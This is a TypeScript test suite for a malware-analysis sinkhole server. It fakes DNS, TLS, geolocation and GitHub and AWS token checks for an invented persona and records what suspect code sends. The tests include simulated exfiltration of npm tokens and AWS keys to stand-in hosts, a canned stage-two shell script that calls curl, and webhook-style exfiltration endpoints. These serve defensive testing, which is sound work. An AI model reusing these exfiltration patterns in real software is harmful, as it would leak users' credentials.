import dgram from 'node:dgram';
import { once } from 'node:events';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import os from 'node:os';
import tls from 'node:tls';
import path from 'node:path';
import dnsPacket from 'dns-packet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SinkholeCapture } from '@vetbox/contracts';
import { serve, type NetworkPersona } from './main.js';
import { createAnalysisCa } from './tls.js';

// The server on the host loopback, without the namespace's iptables: original destinations
// fall back to the listener's own address, everything else is the same code as in the container.
const base = 20_000 + Math.floor(Math.random() * 20_000);
const ports = { dns: base, tcp: base + 1, udp: base + 2 };
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sinkhole-'));
const controlSocket = path.join(dir, 'control.sock');
const ca = await createAnalysisCa();
const persona: NetworkPersona = {
  user: 'priya.patel',
  fullName: 'Priya Patel',
  email: 'priya.patel@fastmail.com',
  hostname: 'priya-thinkpad',
  timezone: 'America/Chicago',
  publicAddress: '73.44.118.23',
  geo: { country: 'US', region: 'Illinois', city: 'Chicago', isp: 'Comcast Cable Communications, LLC', asn: 'AS7922', postal: '60614', latitude: 41.9214, longitude: -87.6513 },
  lan: { interface: 'wlp0s20f3', address: '192.168.1.57', prefix: 24, gateway: '192.168.1.1', mac: '3c:58:c2:12:34:56', address6: '2601:240:c500:1a2:5d1e:7a0b:3c4f:91e2' },
};
const githubToken = 'ghp_' + 'k'.repeat(36);
let close: () => void;

async function capture(): Promise<SinkholeCapture> {
  const socket = net.connect(controlSocket);
  const chunks: Buffer[] = [];
  for await (const c of socket) chunks.push(c as Buffer);
  return SinkholeCapture.parse(JSON.parse(Buffer.concat(chunks).toString('utf8')));
}

beforeAll(async () => {
  ({ close } = await serve({
    caCertPem: ca.certPem,
    caKeyPem: ca.keyPem,
    ports,
    controlSocket,
    canned: [{ host: 'stage.example', path: '/stage2.sh', body: '#!/bin/sh\ncurl http://next.example/ping\n' }],
    persona,
    credentials: { github: [githubToken], npm: [], pypi: [], stripe: [], aws: [{ accessKeyId: 'AKIA2OGYBAH6ZUTG4LFT', account: '210987654321' }] },
    skipNetworkSetup: true,
  }));
});
afterAll(() => close?.());

describe('sinkhole server', () => {
  it('answers every record type plausibly: public addresses by provider, one per name, consistent', async () => {
    const sock = dgram.createSocket('udp4');
    const ask = async (name: string, type: dnsPacket.RecordType) => {
      sock.send(dnsPacket.encode({ type: 'query', id: 7, questions: [{ type, name }] }), ports.dns, '127.0.0.1');
      const [msg] = (await once(sock, 'message')) as [Buffer];
      return (dnsPacket.decode(msg).answers ?? []) as (dnsPacket.Answer & { data: unknown })[];
    };
    const a = (await ask('abc.attacker.example', 'A'))[0]!.data as string;
    const again = (await ask('ABC.attacker.example', 'A'))[0]!.data;
    const other = (await ask('other.example', 'A'))[0]!.data;
    const npm = (await ask('registry.npmjs.org', 'A'))[0]!.data as string;
    const github = (await ask('api.github.com', 'A'))[0]!.data as string;
    const v6 = (await ask('abc.attacker.example', 'AAAA'))[0]!.data as string;
    const githubV6 = await ask('github.com', 'AAAA');
    const own = (await ask('priya-thinkpad', 'A'))[0]!.data;
    const types: Record<string, unknown[]> = {};
    for (const t of ['TXT', 'MX', 'SRV', 'CNAME', 'NS', 'SOA'] as const) {
      const name = t === 'SRV' ? '_xmpp-client._tcp.chat.example.com' : t === 'CNAME' ? 'www.example.com' : 'example.com';
      types[t] = (await ask(name, t)).map((r) => r.data);
    }
    sock.close();
    // Never a reserved, private or benchmark range: addresses the provider really announces.
    for (const addr of [a, other, npm, github]) expect(addr, String(addr)).not.toMatch(/^(0|10|127|169\.254|172\.(1[6-9]|2\d|3[01])|192\.168|192\.0\.2|198\.1[89]|198\.51\.100|203\.0\.113|22[4-9]|2[3-5]\d)\./);
    expect(again).toBe(a);
    expect(other).not.toBe(a);
    expect(npm).toMatch(/^(104\.(1[6-9]|2[0-3])|172\.(6[4-9]|7[01])|162\.159)\./); // Cloudflare
    expect(github).toMatch(/^(140\.82\.(11[2-9]|12[0-7])|192\.30\.(25[2-5]))\./); // GitHub
    expect(v6).toMatch(/^2[0-9a-f]{3}:/);
    expect(githubV6).toEqual([]); // github.com has no AAAA, as on the real internet
    expect(own).toBe('192.168.1.57');
    expect(types.TXT!.map(String).join(' ')).toContain('v=spf1');
    expect(types.MX).toHaveLength(2);
    expect(types.SRV).toEqual([{ priority: 10, weight: 5, port: 5222, target: 'xmpp-client.chat.example.com' }]);
    expect(types.CNAME).toEqual(['example.com']);
    expect(types.NS!.length).toBeGreaterThanOrEqual(2);
    expect(types.SOA).toHaveLength(1);
    const cap = await capture();
    expect(cap.dns.map((d) => [d.name, d.type])).toEqual(expect.arrayContaining([['abc.attacker.example', 'A'], ['abc.attacker.example', 'AAAA'], ['other.example', 'A']]));
    expect(cap.dns.find((d) => d.name === 'abc.attacker.example' && d.type === 'A')?.answer).toBe(a);
    expect(cap.dns.find((d) => d.name === 'abc.attacker.example' && d.type === 'AAAA')?.answer).toBe(v6);
  });

  it('a name that cannot exist (a TLD nobody runs, a bare label) gets NXDOMAIN, as from a real resolver; fixture names resolve', async () => {
    const sock = dgram.createSocket('udp4');
    const ask = async (name: string) => {
      sock.send(dnsPacket.encode({ type: 'query', id: 9, questions: [{ type: 'A', name }] }), ports.dns, '127.0.0.1');
      const [msg] = (await once(sock, 'message')) as [Buffer];
      const reply = dnsPacket.decode(msg) as dnsPacket.Packet & { rcode?: string };
      return { rcode: reply.rcode, answers: reply.answers ?? [] };
    };
    const killSwitch = await ask('iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.qwertyzz');
    const bare = await ask('wpad');
    const fixture = await ask('c2.attacker.invalid');
    const known = await ask('files.pythonhosted.org');
    sock.close();
    expect(killSwitch).toEqual({ rcode: 'NXDOMAIN', answers: [] });
    expect(bare).toEqual({ rcode: 'NXDOMAIN', answers: [] });
    expect(fixture.rcode).toBe('NOERROR');
    expect(fixture.answers).toHaveLength(1);
    expect(known.answers).toHaveLength(1);
    // The question is evidence all the same.
    expect((await capture()).dns.some((d) => d.name === 'iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.qwertyzz' && d.answer === undefined)).toBe(true);
  });

  it('answers "what is my IP", geolocation and token checks as the live services do, with the persona', async () => {
    const get = (host: string, path: string, headers: Record<string, string> = {}, method = 'GET', body = '') =>
      new Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }>((resolve, reject) => {
        const req = http.request({ host: '127.0.0.1', port: ports.tcp, method, path, headers: { host, ...headers } }, (res) => {
          let t = '';
          res.on('data', (c) => (t += c));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body: t, headers: res.headers }));
        });
        req.on('error', reject);
        req.end(body);
      });
    expect((await get('api.ipify.org', '/')).body).toBe('73.44.118.23\n');
    expect(JSON.parse((await get('api.ipify.org', '/?format=json')).body)).toEqual({ ip: '73.44.118.23' });
    expect(JSON.parse((await get('ipinfo.io', '/json')).body)).toMatchObject({ ip: '73.44.118.23', city: 'Chicago', country: 'US', org: 'AS7922 Comcast Cable Communications, LLC', timezone: 'America/Chicago' });
    expect(JSON.parse((await get('ip-api.com', '/json')).body)).toMatchObject({ status: 'success', query: '73.44.118.23', countryCode: 'US', region: 'IL', as: 'AS7922 Comcast Cable Communications, LLC' });
    expect((await get('1.1.1.1', '/cdn-cgi/trace')).body).toMatch(/\nip=73\.44\.118\.23\n[\s\S]*\nloc=US\n/);
    const user = await get('api.github.com', '/user', { authorization: `token ${githubToken}` });
    expect(user.status).toBe(200);
    expect(JSON.parse(user.body)).toMatchObject({ login: 'priya-patel', name: 'Priya Patel', type: 'User' });
    expect(user.headers['x-oauth-scopes']).toContain('repo');
    const bad = await get('api.github.com', '/user', { authorization: 'Bearer ghp_' + 'z'.repeat(36) });
    expect([bad.status, JSON.parse(bad.body).message]).toEqual([401, 'Bad credentials']);
    const sts = (key: string) =>
      get('sts.amazonaws.com', '/', { authorization: `AWS4-HMAC-SHA256 Credential=${key}/20261201/us-east-1/sts/aws4_request, SignedHeaders=host, Signature=00` }, 'POST', 'Action=GetCallerIdentity&Version=2011-06-15');
    expect((await sts('AKIA2OGYBAH6ZUTG4LFT')).body).toContain('<Arn>arn:aws:iam::210987654321:user/priya.patel</Arn>');
    expect((await sts('AKIA2OGYBAH6ZUTG4LFX')).status).toBe(403);
    expect((await get('discord.com', '/api/webhooks/1234567890/abc-DEF', {}, 'POST', '{"content":"x"}')).status).toBe(204);
    expect(JSON.parse((await get('api.telegram.org', '/bot123456:AAE-x/sendMessage?chat_id=42&text=hi')).body)).toMatchObject({ ok: true, result: { chat: { id: 42 } } });
  });

  it('records an HTTP POST and answers 200 (canned stage-2 body when configured)', async () => {
    const body = await new Promise<string>((resolve, reject) => {
      const req = http.request(
        { host: '127.0.0.1', port: ports.tcp, method: 'POST', path: '/collect?x=1', headers: { host: 'collector.example' } },
        (res) => {
          let text = '';
          res.on('data', (c) => (text += c));
          res.on('end', () => resolve(`${res.statusCode} ${text}`));
        },
      );
      req.on('error', reject);
      req.end('secret-body');
    });
    expect(body).toMatch(/^200 /);
    const script = await new Promise<string>((resolve) => {
      http.get({ host: '127.0.0.1', port: ports.tcp, path: '/stage2.sh', headers: { host: 'stage.example' } }, (res) => {
        let t = '';
        res.on('data', (c) => (t += c));
        res.on('end', () => resolve(t));
      });
    });
    expect(script).toContain('curl http://next.example/ping');
    const cap = await capture();
    const post = cap.streams.flatMap((s) => s.http).find((h) => h.path === '/collect?x=1');
    expect(post).toMatchObject({ method: 'POST', host: 'collector.example', bodyBytes: 11 });
    expect(Buffer.from(post!.bodyBase64, 'base64').toString()).toBe('secret-body');
  });

  it('terminates TLS with a leaf for the SNI and records the decrypted request', async () => {
    const status = await new Promise<number>((resolve, reject) => {
      const req = https.request(
        {
          host: '127.0.0.1',
          port: ports.tcp,
          servername: 'upload.example',
          method: 'POST',
          path: '/npmrc',
          headers: { host: 'upload.example' },
          ca: ca.certPem,
          checkServerIdentity: (host, cert) => (cert.subject.CN === 'upload.example' ? undefined : new Error(host)),
        },
        (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode ?? 0));
        },
      );
      req.on('error', reject);
      req.end('//registry.npmjs.org/:_authToken=npm_x');
    });
    expect(status).toBe(200);
    const cap = await capture();
    const stream = cap.streams.find((s) => s.sni === 'upload.example');
    expect(stream?.kind).toBe('tls');
    expect(stream?.http[0]).toMatchObject({ method: 'POST', path: '/npmrc', host: 'upload.example' });
    expect(Buffer.from(stream!.http[0]!.bodyBase64, 'base64').toString()).toContain('_authToken=npm_x');
  });

  it('keeps the first bytes of an unknown protocol and answers', async () => {
    const sock = net.connect(ports.tcp, '127.0.0.1');
    sock.write(Buffer.from('[default]\naws_access_key_id = AKIAEXAMPLE\n'));
    const [reply] = (await once(sock, 'data')) as [Buffer];
    expect(reply.toString()).toBe('OK\r\n');
    sock.end();
    await once(sock, 'close');
    const cap = await capture();
    const raw = cap.streams.find((s) => s.kind === 'raw' && s.protocol === 'tcp');
    expect(Buffer.from(raw!.dataBase64, 'base64').toString()).toContain('AKIAEXAMPLE');
    expect(raw!.bytes).toBe(42);
  });

  it('records UDP datagrams per flow', async () => {
    const sock = dgram.createSocket('udp4');
    for (let i = 0; i < 3; i++) sock.send(`ping-${i}`, ports.udp, '127.0.0.1');
    // Recording waits on a conntrack lookup per datagram: poll instead of guessing a delay.
    let udp: SinkholeCapture['streams'] = [];
    for (let tries = 0; tries < 100; tries++) {
      udp = (await capture()).streams.filter((s) => s.protocol === 'udp');
      if (udp[0]?.bytes === 18) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    sock.close();
    expect(udp).toHaveLength(1);
    expect(Buffer.from(udp[0]!.dataBase64, 'base64').toString()).toBe('ping-0ping-1ping-2');
  });

  it('survives hostile input: broken TLS hellos, odd server names, garbage DNS', async () => {
    const send = async (bytes: Buffer) => {
      const sock = net.connect(ports.tcp, '127.0.0.1');
      sock.on('error', () => {});
      sock.resume();
      sock.end(bytes);
      await once(sock, 'close');
    };
    await send(Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05, 1, 2, 3, 4, 5]));
    await send(Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00]), Buffer.alloc(64, 0xff)]));
    const odd = tls.connect({ host: '127.0.0.1', port: ports.tcp, servername: `${'x'.repeat(60)}.${'y_'.repeat(30)}.example`, rejectUnauthorized: false });
    odd.on('error', () => {});
    odd.once('secureConnect', () => odd.end());
    await once(odd, 'close');
    const udp = dgram.createSocket('udp4');
    udp.send(Buffer.from([0, 1, 2, 3, 0xff, 0xff, 0xff]), ports.dns, '127.0.0.1');
    udp.send(Buffer.alloc(600, 0xc0), ports.dns, '127.0.0.1');
    await new Promise((r) => setTimeout(r, 100));
    udp.close();
    // Still serving and still recording.
    const status = await new Promise<number>((resolve) => {
      http.get({ host: '127.0.0.1', port: ports.tcp, path: '/after', headers: { host: 'after.example' } }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
    });
    expect(status).toBe(200);
    const cap = await capture();
    expect(cap.streams.some((s) => s.http.some((h) => h.path === '/after'))).toBe(true);
    expect(cap.streams.filter((s) => s.kind === 'tls').length).toBeGreaterThanOrEqual(3);
  });
});
